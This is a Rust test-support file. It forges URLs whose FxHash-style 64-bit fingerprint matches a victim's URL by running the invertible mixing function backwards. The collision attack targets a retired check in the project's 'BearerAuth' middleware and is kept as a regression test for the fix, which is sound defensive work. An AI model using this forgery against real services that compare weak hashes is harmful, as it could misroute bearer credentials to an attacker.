//! How an attacker forged the 64-bit fingerprints `BearerAuth` once compared URLs with (fixed
//! seed, FxHash-style `(rotl(state, 5) ^ word) * K`, `K` odd, so every step can be run
//! backwards): given the fingerprint of the victim's URL, it writes another URL with the same
//! one. Kept here, outside the crate, as the attack the middleware must withstand: the unit
//! tests in `src/destination.rs` include this file by path, the end-to-end tests use it as a
//! module.
#![allow(dead_code, unreachable_pub)]

const SEED: u64 = 0x243f_6a88_85a3_08d3;
const K: u64 = 0x517c_c1b7_2722_0a95;

fn mix(state: u64, word: u64) -> u64 {
    (state.rotate_left(5) ^ word).wrapping_mul(K)
}

fn word(bytes: &[u8], at: usize) -> u64 {
    let mut word = [0; 8];
    word.copy_from_slice(&bytes[at..at + 8]);
    u64::from_le_bytes(word)
}

/// The fingerprint the middleware computed of `bytes` (an origin, or a URL after its origin).
pub fn old_fingerprint(bytes: &[u8]) -> u64 {
    let len = bytes.len();
    let mut state = mix(SEED, len as u64);
    let mut at = 0;
    while at + 8 <= len {
        state = mix(state, word(bytes, at));
        at += 8;
    }
    if at == len {
        state
    } else if len >= 8 {
        mix(state, word(bytes, len - 8))
    } else {
        bytes.iter().fold(state, |state, &byte| mix(state, u64::from(byte)))
    }
}

/// `K`'s inverse modulo 2^64 (Newton's iteration; `K` is odd).
fn inverse_of_k() -> u64 {
    let mut inverse = K;
    for _ in 0..6 {
        inverse = inverse.wrapping_mul(2u64.wrapping_sub(K.wrapping_mul(inverse)));
    }
    assert_eq!(inverse.wrapping_mul(K), 1);
    inverse
}

/// `prefix`, 16 bytes from `alphabet`, then `suffix`, whose old fingerprint is `target`.
/// `prefix` and `suffix` are whole 8-byte words. The first 8 free bytes are enumerated; the
/// last 8 are solved for by running the mixing backwards from `target`, and kept when every
/// byte is in `alphabet` (one try in `(256 / alphabet.len())^8`).
pub fn forge(target: u64, prefix: &[u8], suffix: &[u8], alphabet: &[u8]) -> Vec<u8> {
    assert!(prefix.len().is_multiple_of(8) && suffix.len().is_multiple_of(8), "whole words around the forged 16 bytes");
    let k_inverse = inverse_of_k();
    let len = prefix.len() + 16 + suffix.len();
    // The state the solved word must leave, from the target backwards through the suffix.
    let after_solved = (0..suffix.len() / 8)
        .rev()
        .fold(target, |state, i| (state.wrapping_mul(k_inverse) ^ word(suffix, i * 8)).rotate_right(5));
    let before_free = (0..prefix.len() / 8).fold(mix(SEED, len as u64), |state, i| mix(state, word(prefix, i * 8)));
    let base = alphabet.len() as u64;
    for attempt in 0u64.. {
        let mut free = [0u8; 8];
        let mut n = attempt;
        for byte in &mut free {
            *byte = alphabet[(n % base) as usize];
            n /= base;
        }
        let before_solved = mix(before_free, u64::from_le_bytes(free));
        let solved = (before_solved.rotate_left(5) ^ after_solved.wrapping_mul(k_inverse)).to_le_bytes();
        if solved.iter().all(|byte| alphabet.contains(byte)) {
            let forged = [prefix, &free, &solved, suffix].concat();
            assert_eq!(old_fingerprint(&forged), target, "the forgery holds");
            return forged;
        }
    }
    unreachable!("the attempts are unbounded")
}

/// Letters and digits: unchanged by the URL parser in a path.
pub const PATH_ALPHABET: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
/// Lower-case letters, digits and `-`: unchanged by the URL parser in a host name.
pub const HOST_ALPHABET: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789-";

/// A path (`/forged-` and 16 letters or digits) whose old fingerprint is that of `path`.
pub fn path_like(path: &str) -> String {
    let forged = forge(old_fingerprint(path.as_bytes()), b"/forged-", b"", PATH_ALPHABET);
    String::from_utf8(forged).expect("ascii")
}

/// An https origin (`https://` 16 host bytes `.example`) whose old fingerprint is that of
/// `origin`.
pub fn https_origin_like(origin: &str) -> String {
    let forged = forge(old_fingerprint(origin.as_bytes()), b"https://", b".example", HOST_ALPHABET);
    String::from_utf8(forged).expect("ascii")
}
